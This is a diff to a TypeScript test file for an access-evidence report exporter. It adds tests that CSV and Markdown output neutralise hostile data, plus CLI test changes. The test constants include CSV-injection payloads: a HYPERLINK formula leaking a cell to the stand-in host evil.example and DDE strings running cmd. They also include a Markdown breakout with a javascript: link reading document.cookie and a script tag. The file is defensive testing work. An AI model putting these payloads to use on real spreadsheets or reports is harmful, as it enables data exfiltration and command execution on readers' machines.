@@ -6,6 +6,7 @@
  * client, since it is read as the tenant's auditor reads it.
  */
 import { execFile } from 'node:child_process';
+import fs from 'node:fs';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import type { ApolloServer } from '@apollo/server';
@@ -13,6 +14,7 @@ import { collectPack, type EvidencePack } from '../src/report/collect';
 import { formatPack } from '../src/report/format';
 import { createApollo } from '../src/server/app';
 import type { RequestContext } from '../src/server/context';
+import { parseCsv } from './support/csv';
 import { APPROVER, grant, graph, identity, named, own, system, tool, unapproved } from './support/fixtures';
 import { useHarness } from './support/harness';
 
@@ -110,22 +112,85 @@ it('writes CSV with one row per path step and one per finding, under one header'
   expect(kinds).toEqual([...Array(3 + 2).fill('path_step'), ...Array(p.findings.length).fill('finding')]);
 });
 
+describe('a pack whose source data is hostile, opened by the client', () => {
+  // The payloads of issue 9: a formula in an identity name, a DDE command in a
+  // justification, an id whose backtick and line breaks left the table for a
+  // heading and a javascript: link, and raw HTML in a person's name.
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
+  const DDE = "=cmd|' /C calc'!A0";
+  const BREAKOUT_ID = 'adm-ann`\n# Pwned\n[click here](javascript:alert(document.cookie))';
+  const SCRIPT = '<script>alert(1)</script>';
+  // One value for each other character a spreadsheet starts a formula with.
+  const FORMULAS = ['+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+
+  const hostile = async () => {
+    const p = await pack();
+    const [ann] = p.people;
+    const [admAnn] = p.identities;
+    ann.entity.name = SCRIPT;
+    ann.path[0].from.name = SCRIPT;
+    admAnn.entity.name = HYPERLINK;
+    admAnn.entity.id = BREAKOUT_ID;
+    const records = [...ann.path, ...admAnn.path].map((s) => s.access!);
+    [DDE, ...FORMULAS.slice(0, 4)].forEach((payload, i) => (records[i].justification = payload));
+    p.findings[0].title = FORMULAS[4];
+    return p;
+  };
+
+  it('writes every CSV cell that a spreadsheet would run as a formula as quoted text starting with a single quote', async () => {
+    const rows = parseCsv(formatPack(await hostile(), 'csv'));
+    const header = rows[0];
+    const column = (name: string) => rows.slice(1).map((r) => r[header.indexOf(name)]);
+    expect(column('reacher_name').slice(3, 5)).toEqual([`'${HYPERLINK}`, `'${HYPERLINK}`]);
+    expect(column('justification').slice(0, 5)).toEqual([DDE, ...FORMULAS.slice(0, 4)].map((payload) => `'${payload}`));
+    expect(column('title').slice(5, 6)).toEqual([`'${FORMULAS[4]}`]);
+    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
+
+  it('writes Markdown in which no value becomes a heading, a link, HTML or a way out of its table', async () => {
+    const md = formatPack(await hostile(), 'md');
+    expect(md.split('\n').filter((l) => l.startsWith('#'))).toEqual([
+      '# Access evidence: Alpha Corp',
+      '## People who can reach the tenant',
+      '## Identities that can reach the tenant',
+      '## Each path, step by step',
+      '### &lt;script&gt;alert(1)&lt;/script&gt; (`ann`) → the whole tenant',
+      '### =HYPERLINK("http://evil.example/?leak="&amp;A1,"Click for details") (``adm-ann` # Pwned [click here](javascript:alert(document.cookie))``) → the whole tenant',
+      '## Findings',
+    ]);
+    expect(md).toContain('| =HYPERLINK("http://evil.example/?leak="&amp;A1,"Click for details") (``adm-ann` # Pwned [click here](javascript:alert(document.cookie))``) | 2 | the whole tenant |');
+    expect(md).toContain("| 1 | &lt;script&gt;alert(1)&lt;/script&gt; → adm-ann | USES `u-ann` | Approver, — | =cmd\\|' /C calc'!A0 |");
+    // The javascript: link is left only as literal text inside the id's code span.
+    expect(md.replaceAll('``adm-ann` # Pwned [click here](javascript:alert(document.cookie))``', 'ID').match(/<script|javascript:/g)).toBeNull();
+  });
+});
+
 it('refuses an unknown tenant, or an id that is not a tenant, as NOT_FOUND', async () => {
   await expect(collectPack(h.exec, apollo, { tenantId: 'tenant:nope' })).rejects.toMatchObject({ extensions: { code: 'NOT_FOUND' } });
   await expect(collectPack(h.exec, apollo, { tenantId: 'alpha-dc' })).rejects.toMatchObject({ extensions: { code: 'NOT_FOUND' } });
 });
 
 describe('npm run report', () => {
-  const cli = (...args: string[]) => run('npx', ['tsx', 'src/cli/report.ts', ...args], { cwd: path.resolve(__dirname, '..'), env: process.env });
+  const repo = path.resolve(__dirname, '..');
+  const cli = (...args: string[]) => run(path.join(repo, 'node_modules', '.bin', 'tsx'), [path.join(repo, 'src', 'cli', 'report.ts'), ...args], { cwd: repo, env: process.env });
+  const summary = (p: EvidencePack) => ({ tenant: p.tenant.id, people: p.people.map((r) => r.entity.id), identities: p.identities.map((r) => r.entity.id) });
+  const ALPHA = { tenant: 'tenant:alpha', people: ['ann'], identities: ['adm-ann'] };
 
-  it('prints the pack in the format asked for', async () => {
-    const { stdout } = await cli('--tenant', 'tenant:alpha', '--format', 'json', '--as-of', NOW);
-    const printed = JSON.parse(stdout) as EvidencePack;
-    expect({ tenant: printed.tenant.id, people: printed.people.map((r) => r.entity.id), identities: printed.identities.map((r) => r.entity.id) }).toEqual({
-      tenant: 'tenant:alpha',
-      people: ['ann'],
-      identities: ['adm-ann'],
-    });
+  it('prints the pack in the format asked for with --out -', async () => {
+    const { stdout } = await cli('--tenant', 'tenant:alpha', '--format', 'json', '--as-of', NOW, '--out', '-');
+    expect(summary(JSON.parse(stdout))).toEqual(ALPHA);
+  });
+
+  it('run as the README shows it, writes a clean file named after the tenant and the date of the evidence, and prints its path', async () => {
+    const file = path.join(repo, 'evidence-tenant-alpha-2026-06-01.json');
+    try {
+      // npm prints its banner on standard output: the pack must not be there.
+      const { stdout, stderr } = await run('npm', ['run', 'report', '--', '--tenant', 'tenant:alpha', '--format', 'json', '--as-of', NOW], { cwd: repo, env: process.env });
+      expect({ stdout: stdout.includes('"tenant"'), stderr: stderr.trim().split('\n').at(-1) }).toEqual({ stdout: false, stderr: `Wrote the evidence pack of tenant:alpha to ${file}` });
+      expect(summary(JSON.parse(fs.readFileSync(file, 'utf8')))).toEqual(ALPHA);
+    } finally {
+      fs.rmSync(file, { force: true });
+    }
   });
 
   it('refuses a bad format with its usage and exit code 2', async () => {
